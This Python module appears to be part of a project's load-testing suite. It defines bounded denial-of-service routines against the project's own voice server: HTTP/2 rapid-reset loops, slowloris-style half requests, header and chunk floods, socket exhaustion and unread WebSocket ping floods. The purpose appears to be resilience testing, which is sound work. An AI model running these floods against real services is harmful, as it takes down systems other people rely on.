"""Attacks on what stands before a call: sockets that are left open, and bytes that end a server.

Each is bounded as all of them are; see :mod:`benchmarks.load.attacker`, which runs them.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
from collections.abc import Iterator

from benchmarks.load.killers import (
    KILLERS,
    PREFACE,
    RST_STREAM,
    begin_h2,
    h2_frame,
    h2_request,
)
from benchmarks.load.stranger import (
    CONNECTED,
    LOOPS,
    SOCKETS,
    UPGRADE,
    Attack,
    Attacker,
    Connection,
    Pace,
    frame,
    request,
)

RESETS_PER_S = 400
"""Of requests that are taken back at once: 0.2 Mbit/s."""
FEWER = 320
"""Sockets against a server that may open 300."""
PINGERS = 80
BURST_BYTES = 2**16
"""Sent at once, where an attack is a flood."""
FLOOD_BYTES_PER_S = 45e6 / 8
"""Of one flood, over all its sockets."""
STUCK_S = 5.0
"""A flood that the server has not read for so long is over."""
BURSTS_PER_S = 10.0
LISTEN_S = 0.2


def _burst(*messages: bytes) -> bytes:
    """So many of these frames in turn as one read takes."""
    together = b"".join(messages)
    return together * (BURST_BYTES // len(together))


PINGS = _burst(frame(b"x" * 125, opcode=9))
IGNORED = [
    _burst(frame(CONNECTED)),
    _burst(frame(b'{"event":"media","streamSid":"MZ0","media":{"payload":"","timestamp":"0"}}')),
    _burst(frame(b'{"event":"never-heard-of"}')),
    _burst(frame(b"")),
    _burst(frame(b"x", opcode=2)),
    _burst(frame(b"", first=0x01), frame(b"", first=0x00), frame(b"", first=0x80)),
    _burst(frame(b"x", first=0x01), *[frame(b"x", first=0x00)] * 1000, frame(b"x", first=0x80)),
    _burst(frame(b"", opcode=10)),
]
"""Messages, fragments and pongs that say nothing."""


async def upgrades(attacker: Attacker) -> None:
    """Handshakes that are answered 400, whose sockets are left open."""
    broken = itertools.cycle(
        [
            UPGRADE.replace(b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Version: 8"),
            UPGRADE.replace(b"Sec-WebSocket-Key", b"Sec-WebSocket-Lock"),
        ]
    )

    await _leave_open(attacker, broken)


async def _leave_open(attacker: Attacker, said: Iterator[bytes], pace: Pace | None = None) -> None:
    """Each connection says the next of these, takes the answer, and stays until it is closed."""

    async def leave_open(connection: Connection) -> str:
        await connection.send(next(said))
        status = await connection.answer()
        await connection.end()
        return status

    await attacker.many(SOCKETS, leave_open, pace or Pace(50, at_once=SOCKETS))


async def costly(attacker: Attacker) -> None:
    """Requests of 64 KiB and less that are cheap to say and dear to read."""
    fields = "&".join(f"{number:x}" for number in range(13_000))
    chunked = b"POST /twiml HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    said = [
        b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"a:\n" * 20_000 + b"\r\n",
        UPGRADE[:-2] + b"a:\n" * 20_000 + b"\r\n",
        request("/twiml", form=fields, X_Twilio_Signature="A" * 27 + "="),
        request("/twiml", form="a&" * 32_000),
        request("/twiml?" + "a&" * 32_000, X_Twilio_Signature="A" * 27 + "="),
        UPGRADE.replace(b"/stream", b"/stream?" + b"a&" * 32_000),
        chunked + b"1\r\na\r\n" * 60_000 + b"0\r\n\r\n",
        chunked + b"0\r\n" + b"a:\r\n" * 15_000 + b"\r\n",
        b"POST /twiml HTTP/1.1\r\nHost: x\r\nContent-Type: a/b" + b";a=b" * 15_000 + b"\r\n\r\n",
    ]
    await _leave_open(attacker, itertools.cycle(said), Pace(20))


async def prefaces(attacker: Attacker) -> None:
    """HTTP/2 in clear text and halves of everything, left open; and requests reset at once."""
    halves = itertools.cycle(
        [
            PREFACE,
            PREFACE[:20],
            begin_h2(),
            begin_h2(h2_request()),
            UPGRADE[:60],
            UPGRADE + b"\x81",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\n",
            b"POST /twiml HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n",
            b"\x16\x03\x01\x02\x00\x01",
        ]
    )

    async def reset(connection: Connection) -> str:
        pace = Pace(BURSTS_PER_S)
        await connection.send(begin_h2())
        closed = asyncio.ensure_future(connection.end())
        try:
            for first in itertools.count(1, 2 * round(RESETS_PER_S / BURSTS_PER_S)):
                await pace.turn()
                if closed.done() or not attacker.goes_on:
                    break
                streams = range(first, first + 2 * round(RESETS_PER_S / BURSTS_PER_S), 2)
                cancelled = b"\0\0\0\x08"
                await connection.send(
                    b"".join(
                        h2_request(stream=number) + h2_frame(RST_STREAM, cancelled, stream=number)
                        for number in streams
                    )
                )
            return "resets: closed" if closed.done() else "resets: left"
        finally:
            closed.cancel()

    async with asyncio.TaskGroup() as group:
        group.create_task(_leave_open(attacker, halves))
        group.create_task(attacker.many(1, reset, Pace(5)))


async def descriptors(attacker: Attacker) -> None:
    """More silent sockets than the server may open, and one client who wants an answer."""

    async def silent(connection: Connection) -> str:
        await connection.send(b"GET")
        await connection.end()
        return "silent: closed"

    async def ask(connection: Connection) -> str:
        await connection.send(request("/healthz"))
        async with asyncio.timeout(2.0):
            return f"asks: {await connection.answer()}"

    async def asks(connection: Connection) -> str:
        try:
            return await ask(connection)
        except (TimeoutError, ConnectionError):
            return "asks: in vain"

    async with asyncio.TaskGroup() as group:
        group.create_task(attacker.many(FEWER, silent, Pace(100, at_once=FEWER)))
        group.create_task(attacker.many(1, asks, Pace(4)))


async def pings(attacker: Attacker) -> None:
    """Media sockets that ask for pongs all the time, and read none of them."""
    opening, asking = Pace(50, at_once=PINGERS), Pace(FLOOD_BYTES_PER_S / len(PINGS))

    async def ping(connection: Connection) -> str:
        if (status := await connection.upgrade()) != "101":
            return status
        connection.writer.transport.pause_reading()  # type: ignore[attr-defined]
        return await _flood(attacker, connection, PINGS, asking)

    await attacker.many(PINGERS, ping, opening, unread_bytes=2048)


async def ignored(attacker: Attacker) -> None:
    """Media sockets that say what is ignored before a start, and never start."""
    opening = Pace(50, at_once=LOOPS)
    said, saying = itertools.cycle(IGNORED), Pace(FLOOD_BYTES_PER_S / len(IGNORED[0]))

    async def talk(connection: Connection) -> str:
        if (status := await connection.upgrade()) != "101":
            return status
        told = asyncio.ensure_future(connection.farewell())
        try:
            return await _flood(attacker, connection, next(said), saying, told)
        finally:
            told.cancel()
            await asyncio.wait([told])
            if not told.cancelled():
                told.exception()

    await attacker.many(LOOPS, talk, opening)


async def _flood(
    attacker: Attacker,
    connection: Connection,
    burst: bytes,
    pace: Pace,
    farewell: asyncio.Future[str] | None = None,
) -> str:
    """Send the same again and again; the server's close code if it has said goodbye."""
    while attacker.goes_on:
        await pace.turn()
        if farewell is not None and farewell.done():
            return farewell.result()
        try:
            async with asyncio.timeout(STUCK_S):
                await connection.send(burst)
        except TimeoutError:
            return "held back"
        except ConnectionError:
            if farewell is None:
                raise
            return await farewell
    return "left"


async def killers(attacker: Attacker) -> None:
    """What has once ended a whole server, in turn."""
    known = itertools.cycle(KILLERS.values())

    async def kill(connection: Connection) -> str:
        heard = b""
        for piece in next(known):
            await connection.send(piece)
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(LISTEN_S):
                    heard = await connection.reader.read(2**16) or heard
        await connection.end()
        return heard[9:12].decode("latin-1") if heard.startswith(b"HTTP/1.1") else "closed"

    await attacker.many(SOCKETS, kill, Pace(20))


ATTACKS: dict[str, Attack] = {
    "upgrades": upgrades,
    "prefaces": prefaces,
    "descriptors": descriptors,
    "pings": pings,
    "ignored": ignored,
    "killers": killers,
    "costly": costly,
}
